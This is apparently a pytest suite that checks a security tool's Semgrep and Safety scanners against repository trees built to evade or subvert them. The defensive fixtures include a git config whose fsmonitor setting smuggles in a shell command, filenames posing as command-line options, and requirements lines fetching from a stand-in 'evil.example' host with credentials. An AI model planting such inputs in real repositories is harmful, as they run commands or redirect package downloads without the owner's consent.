"""The real scanners in the real sandbox, on small trees that try to fool them."""

import json
import os
import subprocess
import sys
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from devsecops_eda.advisories import import_osv
from devsecops_eda.checks import CheckSettings, Scanner
from devsecops_eda.checks.safety import Safety
from devsecops_eda.checks.semgrep import Semgrep
from devsecops_eda.checks.targets import Targets
from devsecops_eda.cli.config import load
from devsecops_eda.errors import CheckError, ConfigurationError, FailureReason
from devsecops_eda.model import (
    CommitFacts,
    Event,
    EventType,
    Gap,
    Outcome,
    OutcomeStatus,
    ScanRequested,
    Severity,
    Subject,
)
from devsecops_eda.scanners import bind_paths, environment, install, installation, program
from devsecops_eda.scanning import Assignment, Scanning
from devsecops_eda.settings import Settings
from devsecops_eda.workspace import ScanTree, copy_folder

NOW = datetime(2026, 11, 24, 12, tzinfo=UTC)
RULES = {
    "py.yaml": """
rules:
  - id: py-eval
    languages: [python]
    severity: ERROR
    message: eval of $X
    pattern: eval($X)
    fix: literal_eval($X)
    metadata: {cwe: "CWE-95: Eval", confidence: HIGH, title: eval, fix: Parse it.}
  - id: py-secret
    languages: [python]
    severity: HIGH
    message: the secret is $X
    pattern: password = "$X"
    metadata: {cwe: ["CWE-798"]}
""",
    "others.yaml": """
rules:
  - {id: js-eval, languages: [js, ts], severity: HIGH, message: m, pattern: eval($X)}
  - {id: rx, languages: [regex], severity: LOW, message: m, pattern-regex: BEGIN KEY,
     paths: {include: ["*.conf", "/etc/*.ini", "secrets/"], exclude: ["*.sample.conf"]}}
  - {id: gen, languages: [generic], severity: LOW, message: m, pattern: server_tokens on,
     paths: {include: ["*.nginx"]}}
  - {id: docker, languages: [dockerfile], severity: LOW, message: m, pattern: "ADD http://... $X"}
  - {id: yaml, languages: [yaml], severity: MEDIUM, message: m, pattern: "debug: true"}
  - {id: json, languages: [json], severity: WARNING, message: m, pattern: '"debug": true'}
""",
}


@pytest.fixture(scope="session")
def state_dir() -> Path:
    """The state folder of whoever runs the tests: scanners are installed there once."""
    state = load(None, os.environ).settings.state_dir
    for tool in ("semgrep", "safety"):
        install(tool, state_dir=state)
    return state


@dataclass
class Lab:
    """Scans folders of files with one check, as worker and laptop do."""

    state_dir: Path
    tmp: Path
    checks: dict[str, CheckSettings] = field(default_factory=dict)

    def export(self, subject: Subject, *, ref: str | None, into: Path) -> ScanTree:
        return copy_folder(self.tmp / "tree", into)

    def gather(self, subject: Subject, *, ref: str | None, target: str | None) -> CommitFacts:
        raise AssertionError("no scanner asks for commit facts")

    def write(self, name: str, files: Mapping[str, str | bytes]) -> Path:
        root = self.tmp / name
        root.mkdir(exist_ok=True)
        for path, content in files.items():
            file = root / path
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_bytes(content.encode() if isinstance(content, str) else content)
        return root

    def scan(self, check: Scanner, files: Mapping[str, str | bytes]) -> Outcome:
        self.write("tree", files)
        subject = Subject.tree("sha256:" + "0" * 64)
        cause = Event(
            id="1",
            source="urn:test",
            type=EventType.SCAN_REQUESTED,
            subject=str(subject),
            time=NOW,
            correlationid="00000000-0000-0000-0000-000000000000",
            data=ScanRequested(subject, check.name),
        )
        scanning = Scanning(
            Settings(state_dir=self.state_dir, checks=self.checks),
            self,
            work=self.tmp / "work",
            clock=lambda: NOW,
        )
        return scanning.outcome(check, Assignment(check.name, subject, cause, None, None))


@pytest.fixture
def lab(state_dir: Path, tmp_path: Path) -> Lab:
    lab = Lab(state_dir, tmp_path)
    rules = lab.write("rules", RULES)
    lab.checks = {"semgrep": CheckSettings("semgrep", rules=(rules,), timeout_s=120)}
    return lab


def found(outcome: Outcome) -> set[tuple[str, str, int]]:
    assert outcome.status is OutcomeStatus.COMPLETED, outcome.failure
    return {(f.rule, f.path, f.line) for f in outcome.findings}


def test_nothing_in_the_repository_blinds_semgrep(lab: Lab) -> None:
    bad = "eval(x)\n"
    outcome = lab.scan(
        Semgrep(),
        {
            "app.py": bad,
            "nosem.py": "eval(x)  # nosemgrep\n",
            "tests/t.py": bad,
            "node_modules/m.js": bad,
            "vendor/v.py": bad,
            ".semgrepignore": "*\n",
            ".gitignore": "*\n",
            "inner/HEAD": "ref: refs/heads/main\n",
            "inner/config": "[core]\n\tbare = true\n\tfsmonitor = touch /tmp/owned\n",
            "--config=evil.py": bad,
            "-r.py": bad,
            "tab\there\nnewline.py": bad,
        },
    )

    assert {path for _, path, _ in found(outcome)} == {
        "app.py",
        "nosem.py",
        "tests/t.py",
        "node_modules/m.js",
        "vendor/v.py",
        "--config=evil.py",
        "-r.py",
        r"tab\x09here\x0anewline.py",
    }
    assert outcome.coverage.complete
    assert outcome.tool.version == "1.182.0"


def test_what_semgrep_cannot_read_is_a_gap(lab: Lab) -> None:
    outcome = lab.scan(
        Semgrep(),
        {
            "good.py": "eval(x)\n",
            "broken.py": "eval(x)\ny = (\n",
            "utf7.py": "#!/usr/bin/python\n# -*- coding: utf-7 -*-\neval(x)\n",
            "big.py": "# " + "x" * 1_100_000 + "\neval(x)\n",
            "lfs.py": "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n",
            "lib.min.js": "eval(x)\n",
            "deep.py": "x = " + "(" * 3000 + ")" * 3000 + "\neval(x)\n",
        },
    )

    assert {("py-eval", "good.py", 1), ("py-eval", "broken.py", 1)} <= found(outcome)
    gaps = {gap.path: gap.reason for gap in outcome.coverage.gaps}
    assert gaps.pop("deep.py", None) is None or ("py-eval", "deep.py", 2) in found(outcome)
    assert gaps.keys() == {"broken.py", "utf7.py", "big.py", "lfs.py", "lib.min.js"}
    assert gaps["broken.py"] == "parsed only in part (line 2)"
    assert gaps["utf7.py"] == "declared_coding: utf-7"
    assert not outcome.coverage.complete


def test_programs_without_an_ending_are_scanned_under_their_own_names(lab: Lab) -> None:
    outcome = lab.scan(
        Semgrep(),
        {
            "bin/tool": "#!/usr/bin/env python3\n\neval(x)\n",
            "bin/old": "#!/usr/bin/python2.7 -u\neval(x)\n",
            "bin/web": "#!/usr/bin/env -S node --harmony\neval(x)\n",
            "bin/shell": "#!/bin/sh\neval x\n",
            "README": "eval(x)\n",
        },
    )

    assert found(outcome) == {
        ("py-eval", "bin/tool", 3),
        ("py-eval", "bin/old", 2),
        ("js-eval", "bin/web", 2),
    }
    assert (outcome.coverage.eligible, outcome.coverage.scanned) == (3, 3)


NAMES = [
    *("a.py", "a.pyi", "a.pyw", "a.ipynb", "a.js", "a.jsx", "a.mjs", "a.cjs", "a.ts", "a.tsx"),
    *("a.mts", "a.cts", "a.vue", "a.min.js", "a.d.ts", "A.PY", "Dockerfile", "dockerfile"),
    *("web.Dockerfile", "web.dockerfile", "Dockerfile.dev", "Containerfile", "aDockerfile"),
    *("a.yml", "a.yaml", "a.json", "a.conf", "a.sample.conf", "deep/a.conf", "etc/a.ini"),
    *("x/etc/a.ini", "secrets/key", "x/secrets/y/key", "a.nginx", "a.txt", "plain", ".yml"),
]


def test_eligible_are_exactly_the_files_semgrep_takes(lab: Lab) -> None:
    files = dict.fromkeys(NAMES, "x\n")
    plan_tree = lab.write("tree", files)
    rules = Semgrep().inputs(lab.checks["semgrep"], now=NOW).files["rules.json"]
    config = lab.tmp / "rules.json"
    config.write_bytes(rules)
    done = subprocess.run(
        [
            program("semgrep", state_dir=lab.state_dir),
            *("scan", "--experimental", "--json", "--quiet", "--metrics=off"),
            *("--disable-version-check", "--x-ignore-semgrepignore-files", "--no-git-ignore"),
            *(f"--config={config}", "--", plan_tree),
        ],
        capture_output=True,
        check=True,
        cwd=lab.tmp,
        env={**os.environ, **environment("semgrep", state_dir=lab.state_dir)},
    )

    scanned = {os.path.relpath(p, plan_tree) for p in json.loads(done.stdout)["paths"]["scanned"]}
    targets = Targets.of(json.loads(rules)["rules"])
    assert {name for name in NAMES if targets.takes(name)} == scanned


def test_a_finding_says_what_the_rule_says_and_no_code(lab: Lab) -> None:
    outcome = lab.scan(Semgrep(), {"a.py": 'def f():\n    password = "hunter2"\n    eval(1)\n'})

    by_rule = {finding.rule: finding for finding in outcome.findings}
    assert by_rule["py-eval"].message == "eval of $X"
    assert by_rule["py-eval"].title == "eval"
    assert by_rule["py-eval"].severity is Severity.HIGH
    assert by_rule["py-eval"].cwe == ("CWE-95",)
    assert by_rule["py-eval"].fix == "Parse it."
    assert by_rule["py-secret"].line == 2
    assert "hunter2" not in repr(outcome)


@pytest.mark.parametrize(
    ("rule", "word"),
    [
        ("{id: r, languages: [python], severity: LOW, message: m, pattern: 'f('}", "r"),
        ("{id: r, languages: [klingon], severity: LOW, message: m, pattern: f()}", "r"),
        ("{id: r, languages: [python], severity: LOW, message: m}", "r"),
    ],
)
def test_a_rule_that_cannot_run_is_no_verdict(lab: Lab, rule: str, word: str) -> None:
    good = "{id: good, languages: [python], severity: LOW, message: m, pattern: eval(...)}"
    rules = lab.write("own", {"r.yaml": f"rules: [{good}, {rule}]"})
    lab.checks["semgrep"] = CheckSettings("semgrep", rules=(rules,))

    outcome = lab.scan(Semgrep(), {"a.py": "eval(x)\n"})

    assert outcome.failure is not None, outcome
    assert outcome.failure.reason is FailureReason.MISCONFIGURED
    assert word in outcome.failure.detail


def test_the_shipped_rules_run(lab: Lab) -> None:
    lab.checks.clear()

    outcome = lab.scan(
        Semgrep(), {"a.py": "import os\n\n\ndef f(x):\n    eval(x)\n", "b.js": "1\n"}
    )

    assert outcome.status is OutcomeStatus.COMPLETED, outcome.failure
    assert outcome.coverage.complete
    assert outcome.rules_digest


def test_a_tree_without_source_is_not_applicable(lab: Lab) -> None:
    assert not lab.scan(Semgrep(), {"README.md": "x"}).applicable
    assert not lab.scan(Safety(), {"README.md": "x"}).applicable


def osv(
    identifier: str, package: str, *events: dict[str, str], **more: object
) -> dict[str, str | bytes]:
    document = {
        "id": identifier,
        "modified": "2026-11-23T00:00:00Z",
        "published": "2026-01-02T03:04:05Z",
        "summary": f"{package} is bad",
        "affected": [
            {
                "package": {"ecosystem": "PyPI", "name": package},
                "ranges": [{"type": "ECOSYSTEM", "events": list(events)}] if events else [],
                **({"versions": more.pop("versions")} if "versions" in more else {}),
            }
        ],
        **more,
    }
    return {f"{identifier}.json": json.dumps(document)}


@pytest.fixture
def database(lab: Lab) -> Callable[..., Path]:
    """Import advisories, as files, into the database that the check safety uses."""

    def make(*advisories: Mapping[str, str | bytes], age: timedelta = timedelta(0)) -> Path:
        folder = lab.tmp / "database"
        for one in advisories:
            lab.write("osv", one)
        import_osv(lab.tmp / "osv", folder, date=NOW - age)
        lab.checks["safety"] = CheckSettings("safety", database=folder, timeout_s=120)
        return folder

    return make


@pytest.fixture
def ordinary(database: Callable[..., Path]) -> Path:
    return database(
        osv(
            "PYSEC-1",
            "Foo_Bar",
            {"introduced": "1.0"},
            {"fixed": "1.2"},
            {"introduced": "2.0"},
            {"fixed": "2.0.5"},
            aliases=["CVE-2026-1"],
            severity=[{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
        ),
        osv("PYSEC-2", "last", {"introduced": "0"}, {"last_affected": "3.1"}),
        osv("PYSEC-3", "listed", versions=["1.0", "1.1rc1"]),
        osv("PYSEC-4", "always", {"introduced": "0"}),
    )


VULNERABLE = {
    "foo-bar": ["1.0", "1.1.post2", "1.1rc1", "1.2rc1", "1.1+local", "2.0.4"],
    "last": ["0.dev1", "0.1", "3.1"],
    "listed": ["1.0", "1.1rc1"],
    "always": ["0.0.1", "1!9"],
}
CLEAN = {
    "foo-bar": ["0.9", "1.0rc1", "1.2", "1.2+local", "1.3", "2.0rc1", "2.0.5"],
    "last": ["3.1.post1", "3.2"],
    "listed": ["1.1", "1.0.post1"],
    "other": ["1.0"],
}


@pytest.mark.usefixtures("ordinary")
def test_safety_finds_exactly_the_vulnerable_pins(lab: Lab) -> None:
    pins = [
        f"{name}=={version}"
        for table in (VULNERABLE, CLEAN)
        for name, versions in table.items()
        for version in versions
    ]
    outcome = lab.scan(Safety(), {"requirements.txt": "\n".join(pins)})

    assert outcome.status is OutcomeStatus.COMPLETED, outcome.failure
    told = {(f.package.name, f.package.version) for f in outcome.findings if f.package}
    assert told == {(name, v) for name, versions in VULNERABLE.items() for v in versions}
    assert outcome.coverage.complete
    assert outcome.tool.version == "3.7.0"
    lines = {pins[f.line - 1] for f in outcome.findings}
    assert lines == {f"{name}=={v}" for name, versions in VULNERABLE.items() for v in versions}


@pytest.mark.usefixtures("ordinary")
def test_a_vulnerable_pin_is_told_with_all_that_the_advisory_says(lab: Lab) -> None:
    outcome = lab.scan(
        Safety(), {"app/requirements.txt": "\n# a\nFoo.Bar[x]==1.1 ; python_version<'3'\n"}
    )

    (finding,) = outcome.findings
    assert (finding.path, finding.line, finding.rule) == ("app/requirements.txt", 3, "PYSEC-1")
    assert finding.severity is Severity.CRITICAL
    assert finding.fix == "upgrade foo-bar to 1.2 or later"
    assert finding.package is not None
    assert finding.package.aliases == ("CVE-2026-1",)
    assert finding.package.fixed_versions == ("1.2", "2.0.5")
    assert finding.package.published == datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    assert outcome.data is not None
    assert outcome.data.date == NOW


@pytest.mark.usefixtures("ordinary")
def test_nothing_in_the_repository_blinds_safety(lab: Lab) -> None:
    outcome = lab.scan(
        Safety(),
        {
            "requirements.txt": "--index-url https://u:hunter2@evil.example/\nfoo-bar==1.1\nfoo-bar>1\n",
            ".safety-policy.yml": "security:\n  ignore-cvss-severity-below: 10\n",
            "safety-policy.yml": "x",
            "only-gaps/requirements.txt": "pkg @ https://u:hunter2@evil.example/p.zip\n",
            "empty/requirements.txt": "",
        },
    )

    assert found(outcome) == {("PYSEC-1", "requirements.txt", 2)}
    assert set(outcome.coverage.gaps) == {
        Gap("requirements.txt", "the option --index-url changes where packages come from"),
        Gap("requirements.txt", "unpinned: foo-bar>1"),
        Gap("only-gaps/requirements.txt", "from a URL, no released version: pkg"),
    }
    assert "hunter2" not in repr(outcome)


@pytest.mark.usefixtures("ordinary")
def test_manifests_with_gaps_alone_are_completed_and_say_so(lab: Lab) -> None:
    outcome = lab.scan(Safety(), {"requirements.txt": "django>=3.2\n"})

    assert outcome.status is OutcomeStatus.COMPLETED
    assert outcome.applicable
    assert outcome.coverage.gaps == (Gap("requirements.txt", "unpinned: django>=3.2"),)


def test_without_a_database_there_is_no_verdict_but_the_mend(lab: Lab) -> None:
    for settings in (
        CheckSettings("safety"),
        CheckSettings("safety", database=lab.tmp / "nothing"),
    ):
        lab.checks["safety"] = settings
        outcome = lab.scan(Safety(), {"requirements.txt": "a==1\n"})

        assert outcome.failure is not None
        assert outcome.failure.reason is FailureReason.NO_DATA
        assert "devsecops-eda data import" in outcome.failure.detail


@pytest.mark.parametrize(
    ("age", "reason"),
    [
        (timedelta(days=7), None),
        (timedelta(days=7, seconds=1), FailureReason.STALE_DATA),
        (timedelta(days=400), FailureReason.STALE_DATA),
    ],
)
def test_old_data_is_no_verdict(
    lab: Lab, database: Callable[..., Path], age: timedelta, reason: FailureReason | None
) -> None:
    database(osv("PYSEC-4", "always", {"introduced": "0"}), age=age)

    outcome = lab.scan(Safety(), {"requirements.txt": "always==1\n"})

    assert (outcome.failure.reason if outcome.failure else None) is reason


@pytest.mark.usefixtures("ordinary")
def test_data_from_the_future_is_no_verdict(lab: Lab) -> None:
    settings = lab.checks["safety"]

    with pytest.raises(CheckError) as raised:
        Safety().inputs(settings, now=NOW - timedelta(hours=1))

    assert raised.value.reason is FailureReason.STALE_DATA


def test_a_fingerprint_of_a_dependency_survives_a_bump_that_does_not_mend(
    lab: Lab, ordinary: Path
) -> None:
    first = lab.scan(Safety(), {"requirements.txt": "foo-bar==1.0\n"})
    second = lab.scan(Safety(), {"requirements.txt": "# moved\na==1\nfoo-bar==1.1\n"})

    assert [f.fingerprint for f in first.findings] == [f.fingerprint for f in second.findings]


def test_what_is_installed_stays_and_half_an_environment_is_made_anew(
    state_dir: Path, tmp_path: Path
) -> None:
    there = installation("safety", state_dir=state_dir)
    before = there.program.stat()

    assert install("safety", state_dir=state_dir) == there
    assert there.program.stat() == before

    with pytest.raises(ConfigurationError, match="there is no interpreter"):
        install("safety", state_dir=tmp_path, python=tmp_path / "python")
    assert not installation("safety", state_dir=tmp_path).prefix.exists()
    with pytest.raises(CheckError, match="devsecops-eda scanners install") as raised:
        program("safety", state_dir=tmp_path)
    assert raised.value.reason is FailureReason.TOOL_MISSING


def test_a_sandbox_is_never_shown_the_whole_machine(state_dir: Path) -> None:
    for tool in ("semgrep", "safety"):
        paths = bind_paths(tool, state_dir=state_dir)

        assert installation(tool, state_dir=state_dir).prefix in paths
        assert not {Path("/"), Path("/usr"), Path.home(), Path("/home"), Path("/root")} & set(paths)


def test_scanners_and_data_are_managed_from_the_command_line(
    state_dir: Path, tmp_path: Path
) -> None:
    osv_folder = tmp_path / "osv"
    osv_folder.mkdir()
    for name, text in osv("PYSEC-4", "always", {"introduced": "0"}).items():
        (osv_folder / name).write_text(str(text))
    (osv_folder / "bad.json").write_text("{")
    environ = {"DEVSECOPS_EDA_STATE_DIR": str(state_dir)}

    def call(*arguments: str) -> tuple[int, str]:
        done = subprocess.run(
            [Path(sys.prefix) / "bin" / "devsecops-eda", *arguments],
            capture_output=True,
            text=True,
            check=False,
            cwd=tmp_path,
            env={**os.environ, **environ},
        )
        return done.returncode, done.stdout + done.stderr

    code, text = call("scanners", "list", "--format", "json")
    assert code == 0
    assert {row["tool"]: row["installed"] for row in json.loads(text)["scanners"]} == {
        "semgrep": True,
        "safety": True,
    }
    code, text = call("data", "import", str(osv_folder), "--into", "db")
    assert code == 0, text
    assert "skipped bad.json: neither JSON nor YAML" in text
    assert "1 advisories for 1 packages" in text
    code, text = call("data", "show", "db", "--format", "json")
    assert (code, json.loads(text)["advisories"]) == (0, 1)
    code, text = call("data", "show", "nothing")
    assert code == 3
    (osv_folder / "PYSEC-4.json").unlink()
    code, text = call("data", "import", str(osv_folder), "--into", "db")
    assert code == 2
    assert "no usable OSV advisory" in text
    assert call("data", "show", "db")[0] == 0
    code, _ = call("data", "import", str(osv_folder), "--into", "db", "--date", "yesterday")
    assert code == 2
